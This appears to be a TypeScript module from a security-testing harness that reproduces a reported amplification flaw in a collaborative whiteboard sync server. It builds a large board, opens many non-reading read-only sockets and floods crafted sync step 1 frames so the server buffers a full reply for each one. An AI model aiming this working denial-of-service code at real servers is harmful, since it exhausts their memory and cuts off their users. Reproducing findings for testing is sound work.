/**
 * Sync step 1 amplification (issue 15, finding 4): read-only connections that stop reading their
 * socket, each sending a burst of seven-byte sync step 1 frames to a large board. Every state
 * vector is non-empty and different (one client id the board has never seen, clock 0), so each
 * asks for the whole board and no two answers are alike: a server that encodes one reply per
 * frame and keeps it until the socket drains holds board × frames.
 */
import * as encoding from 'lib0/encoding'
import { untilServerHolds } from '../board-size.js'
import { dialectFor } from '../dialect.js'
import type { Target } from '../job.js'
import { RawClient } from '../raw-client.js'
import { encodeFrame } from '../tcp-websocket.js'
import { withTimeout } from '../wait.js'
import { SYNC_STEP_1, SYNC_UPDATE, syncMessage } from '../wire.js'
import { type Attack, type AttackSpec, dropAll, openAttackers } from './attack.js'
import { largeBoard } from '../large-board.js'

const OPCODE_BINARY = 0x2
const SYNC_TIMEOUT_MS = 60_000
/** Client ids of two varint bytes: the frame is 7 bytes, as in the finding. */
const FIRST_ID = 0x80
const IDS = 0x4000 - FIRST_ID

/** A state vector naming one client the board does not know, at clock 0. */
function stateVector(clientId: number): Uint8Array {
  return encoding.encode((encoder) => {
    encoding.writeVarUint(encoder, 1)
    encoding.writeVarUint(encoder, clientId)
    encoding.writeVarUint(encoder, 0)
  })
}

export interface PreparedFlood {
  readonly attack: Attack
  /** The board as the server holds it (its sync step 2 to a fresh client). */
  readonly boardBytes: number
  /** The client that wrote the board stays, so the room stays loaded; closed after the run. */
  close(): Promise<void>
}

export async function prepareStep1Flood(
  spec: Extract<AttackSpec, { kind: 'step1-flood' }>,
  target: Target,
  seed: number,
): Promise<PreparedFlood> {
  if (!target.viewerUrl) throw new Error('the step 1 flood needs a read-only link (Accord only)')
  const board = largeBoard(spec.boardBytes, seed)
  const seeder = new RawClient({ url: target.url, dialect: dialectFor(target) })
  await withTimeout(seeder.synced, SYNC_TIMEOUT_MS, 'the board writer to sync')
  for (const update of board.updates) seeder.send(syncMessage(SYNC_UPDATE, update))
  const boardBytes = await untilServerHolds(target, board.stateVector)

  const attackers = await openAttackers(target.viewerUrl, spec.attackers, { read: false })
  const bursts = attackers.map((_, attacker) =>
    Buffer.concat(
      Array.from({ length: spec.framesEach }, (_, frame) => {
        const clientId = FIRST_ID + ((attacker * spec.framesEach + frame) % IDS)
        return encodeFrame(OPCODE_BINARY, syncMessage(SYNC_STEP_1, stateVector(clientId)))
      }),
    ),
  )
  let sent = 0
  const attack: Attack = {
    get sent() {
      return sent
    },
    start: () => {
      attackers.forEach((socket, index) => {
        if (socket.write(bursts[index] as Buffer)) sent += spec.framesEach
      })
    },
    stop: () => {},
    close: () => dropAll(attackers),
  }
  return { attack, boardBytes, close: () => seeder.close() }
}
